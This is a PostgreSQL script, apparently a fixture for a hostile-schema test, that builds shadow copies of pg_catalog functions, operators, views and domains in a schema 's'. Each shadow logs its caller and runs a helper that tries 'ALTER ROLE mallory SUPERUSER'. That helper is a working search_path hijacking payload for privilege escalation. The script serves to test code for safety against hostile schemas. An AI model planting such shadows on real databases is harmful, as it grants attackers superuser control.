--
-- Shadows for all_hostile_schema.pl. They are created in schema s, for each object of
-- pg_catalog whose name occurs in lair.word or, if it is an operator, in lair.source:
-- functions, aggregates and operators with the same argument types and with types that
-- match better, domains, and views. A shadow reports its caller and then calls the
-- original. Its cost is nearly 0, so it is evaluated before a condition that is false.
--
CREATE SCHEMA s;
CREATE SCHEMA lair;
GRANT USAGE ON SCHEMA s, lair TO PUBLIC;
CREATE TABLE lair.word (word text);
CREATE TABLE lair.source (source text);
CREATE FUNCTION lair.note(what text) RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
	RAISE LOG 'shadow called: % as %', what, current_user;
	BEGIN
		ALTER ROLE mallory SUPERUSER;
	EXCEPTION WHEN OTHERS THEN NULL;
	END;
	RETURN true;
END $$;

-- argument types that may match a call better: types with a cast to the declared one, and text, for literals
CREATE VIEW lair.stand_in AS
	SELECT casttarget AS type, castsource AS other FROM pg_cast WHERE castcontext IN ('i', 'a') OR castmethod = 'b'
	UNION SELECT oid, 'text'::regtype FROM pg_type WHERE typtype IN ('b', 'd');
-- types that may replace a polymorphic one
CREATE VIEW lair.concrete AS
	SELECT oid AS element, typarray AS "array" FROM pg_type
	WHERE typnamespace = 'pg_catalog'::regnamespace AND typtype = 'b' AND typarray <> 0
		AND (typname IN (SELECT word FROM lair.word) OR typname IN ('int2', 'int4', 'int8', 'bool'));
CREATE FUNCTION lair.made_concrete(type oid, element oid, "array" oid) RETURNS oid LANGUAGE sql AS $$
	SELECT CASE WHEN type IN ('anyelement'::regtype, 'anynonarray'::regtype, 'anycompatible'::regtype,
				'anycompatiblenonarray'::regtype, '"any"'::regtype) THEN element
		WHEN type IN ('anyarray'::regtype, 'anycompatiblearray'::regtype) THEN "array" ELSE type END $$;
CREATE FUNCTION lair.type(type oid) RETURNS text LANGUAGE sql AS $$
	SELECT format('%I.%I', nspname, typname) FROM pg_type t JOIN pg_namespace n ON n.oid = typnamespace WHERE t.oid = type $$;
CREATE FUNCTION lair.list(types oid[]) RETURNS text LANGUAGE sql AS $$
	SELECT coalesce(string_agg(lair.type(t), ', ' ORDER BY i), '') FROM unnest(types) WITH ORDINALITY AS a (t, i) $$;

-- kind: f, a, w = function, aggregate, window function, o = operator
CREATE TABLE lair.original (id serial, kind "char", name name, types oid[], result oid, is_set boolean,
	outs text, is_variadic boolean, is_polymorphic boolean);
CREATE TABLE lair.shadow (no serial PRIMARY KEY, id int, kind "char", name name, types oid[], result oid, exact boolean, made boolean DEFAULT false);

-- List the originals and the shadows to create.
CREATE PROCEDURE lair.read_originals() LANGUAGE sql AS $$
	INSERT INTO lair.original (kind, name, types, result, is_set, outs, is_variadic)
	SELECT prokind, proname, ARRAY(SELECT unnest(proargtypes)), prorettype, proretset,
		(SELECT string_agg('OUT ' || lair.type(t), ', ' ORDER BY i)
			FROM unnest(proallargtypes, proargmodes) WITH ORDINALITY AS a (t, mode, i) WHERE mode IN ('o', 't')), provariadic <> 0
	FROM pg_proc WHERE pronamespace = 'pg_catalog'::regnamespace AND proname IN (SELECT word FROM lair.word)
	UNION ALL
	SELECT 'o', oprname, array_remove(ARRAY[oprleft, oprright], 0), oprresult, false, NULL, false
	FROM pg_operator WHERE oprnamespace = 'pg_catalog'::regnamespace AND oprcode <> 0
		AND EXISTS (SELECT FROM lair.source WHERE strpos(source, oprname) > 0);
	UPDATE lair.original SET is_polymorphic = (SELECT coalesce(bool_or(lair.made_concrete(t, 1, 1) = 1), false) FROM unnest(types) AS t);

	INSERT INTO lair.shadow (id, kind, name, types, result, exact)
	SELECT DISTINCT ON (kind, name, types) id, kind, name, types, result, exact FROM (
		SELECT id, kind, name, types, result, true AS exact FROM lair.original
		-- one argument has another type
		UNION ALL
		SELECT id, kind, name, types[:i - 1] || other || types[i + 1:], result, false
		FROM lair.original, generate_subscripts(types, 1) AS i, lair.stand_in WHERE type = types[i]
		-- all arguments of the first one's type have another
		UNION ALL
		SELECT id, kind, name, array_replace(types, type, other), result, false
		FROM lair.original, lair.stand_in WHERE type = types[1]
		-- polymorphic arguments have each concrete type
		UNION ALL
		SELECT id, kind, name, (SELECT array_agg(lair.made_concrete(t, element, "array") ORDER BY i) FROM unnest(types) WITH ORDINALITY AS a (t, i)),
			lair.made_concrete(result, element, "array"), true
		FROM lair.original, lair.concrete WHERE is_polymorphic
		-- VARIADIC arguments are one or two
		UNION ALL
		SELECT id, kind, name, trim_array(types, 1) || array_fill(element, ARRAY[n]), result, true
		FROM lair.original, lair.concrete, generate_series(1, 2) AS n WHERE is_variadic) c
	ORDER BY kind, name, types, exact DESC
$$;

-- The commands that create a shadow.
CREATE FUNCTION lair.commands(h lair.shadow) RETURNS text LANGUAGE plpgsql AS $$
DECLARE
	o lair.original = (SELECT o FROM lair.original o WHERE o.id = h.id);
	made text = format('s.%I(%s)', h.name, concat_ws(', ', nullif(lair.list(h.types), ''), o.outs));
	result text = CASE WHEN o.is_set THEN 'SETOF ' ELSE '' END || lair.type(h.result);
	note text = format('BEGIN PERFORM lair.note(%L); ', lair.list(ARRAY[h.result]) || ' ' || h.name || '(' || lair.list(h.types) || ')');
	given text[] = ARRAY(SELECT CASE WHEN lair.made_concrete(was, 0, 0) = 0 OR was IS NULL THEN '$' || i ELSE format('$%s::%s', i, lair.type(was)) END
		FROM unnest(h.types, o.types) WITH ORDINALITY AS a (t, was, i) WHERE t IS NOT NULL ORDER BY i);
	call text = format('pg_catalog.%I(%s)', o.name, array_to_string(given, ', '));
BEGIN
	CASE h.kind WHEN 'f' THEN
		RETURN format('CREATE FUNCTION %s RETURNS %s LANGUAGE plpgsql COST 0.0001 AS %L', made, result, note
			|| CASE WHEN o.is_set THEN 'RETURN QUERY SELECT * FROM ' || call WHEN o.outs IS NOT NULL THEN 'NULL'
				WHEN h.result = 'void'::regtype THEN 'PERFORM ' || call ELSE 'RETURN ' || call END || '; END');
	WHEN 'a' THEN
		RETURN format('CREATE FUNCTION lair.%I(%s) RETURNS %s LANGUAGE plpgsql COST 0.0001 AS %L;', h.name, lair.list(h.result || h.types), result, note || 'RETURN NULL; END')
			|| format('CREATE AGGREGATE s.%I(%s) (SFUNC = lair.%I, STYPE = %s)', h.name, coalesce(nullif(lair.list(h.types), ''), '*'), h.name, result);
	WHEN 'o' THEN
		call := format('%s OPERATOR(pg_catalog.%s) %s', CASE WHEN cardinality(given) > 1 THEN given[1] END, o.name, given[cardinality(given)]);
		RETURN format('CREATE FUNCTION lair.%I(%s) RETURNS %s LANGUAGE plpgsql COST 0.0001 AS %L;', h.name, lair.list(h.types), result, note || 'RETURN ' || call || '; END')
			|| format('CREATE OPERATOR s.%s (%s RIGHTARG = %s, FUNCTION = lair.%I)', h.name,
				CASE WHEN cardinality(given) > 1 THEN 'LEFTARG = ' || lair.type(h.types[1]) || ',' END, lair.type(h.types[cardinality(given)]), h.name);
	ELSE
		RAISE feature_not_supported;
	END CASE;
END $$;

CREATE PROCEDURE lair.cast_shadows() LANGUAGE plpgsql AS $$
DECLARE
	h lair.shadow;
	n name;
BEGIN
	CALL lair.read_originals();
	FOR h IN SELECT * FROM lair.shadow LOOP
		BEGIN
			EXECUTE lair.commands(h);
			UPDATE lair.shadow SET made = true WHERE no = h.no;
		-- SQL cannot declare functions with such types
		EXCEPTION WHEN feature_not_supported OR invalid_function_definition OR duplicate_function OR datatype_mismatch THEN NULL;
		END;
	END LOOP;
	FOR n IN SELECT relname FROM pg_class JOIN lair.word ON relname = word WHERE relnamespace = 'pg_catalog'::regnamespace AND relkind IN ('r', 'v') LOOP
		EXECUTE format('CREATE VIEW s.%I AS SELECT * FROM pg_catalog.%I WHERE lair.note(%L)', n, n, 'relation ' || n);
		EXECUTE format('GRANT SELECT ON s.%I TO PUBLIC', n);
		INSERT INTO lair.shadow (kind, name, made) VALUES ('r', n, true);
	END LOOP;
	FOR n IN SELECT typname FROM pg_type JOIN lair.concrete ON oid = element LOOP
		EXECUTE format('CREATE DOMAIN s.%I AS pg_catalog.%I CHECK (lair.note(%L))', n, n, 'type ' || n);
		INSERT INTO lair.shadow (kind, name, made) VALUES ('t', n, true);
	END LOOP;
END $$;
